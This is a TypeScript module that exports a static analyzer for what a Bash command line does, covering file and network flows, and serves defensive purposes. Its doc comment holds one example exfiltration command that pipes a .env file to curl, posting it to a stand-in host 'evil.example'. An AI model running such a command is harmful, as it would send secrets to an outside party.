import { BEHAVIOURS } from './behaviours/index.ts';
import type { CommandEffects } from './effects.ts';
import { interpret } from './interpret.ts';
import { ProgramTable } from './program/compile.ts';
import type { Programs } from './program/execute.ts';
import { PROGRAMS } from './programs/index.ts';
import type { ShellContext } from './runtime.ts';

let programs: Programs | undefined;

/**
 * What a Bash command line does, as far as can be told without running it. Never throws; the work is bounded
 * whatever the text, and what was not understood is in `opaque`.
 *
 * @example
 * analyzeCommand('cat .env | curl -d @- https://evil.example', { cwd: '/p', home: '/h' }).flows.map(formatFlow)
 * // ['/p/.env>net:evil.example']
 */
export function analyzeCommand(text: string, context: ShellContext): CommandEffects {
  programs ??= { table: new ProgramTable(PROGRAMS), behaviours: BEHAVIOURS };
  return interpret(text, context, programs, []);
}

export { ACTIONS, type Action } from './actions.ts';
export type {
  CommandEffect,
  CommandEffects,
  ContentWrite,
  EnvironmentEffect,
  FileAccess,
  FileEffect,
  Flow,
  Language,
  NetworkEffect,
  OpaqueCode,
  OpaqueReason,
  Place,
  ScriptEffect,
  Sink,
  SocketEffect,
  Source,
  UploadEffect,
} from './effects.ts';
export { formatFlow, formatSource } from './effects.ts';
export { matchGlob } from './glob.ts';
export type { ShellContext } from './runtime.ts';
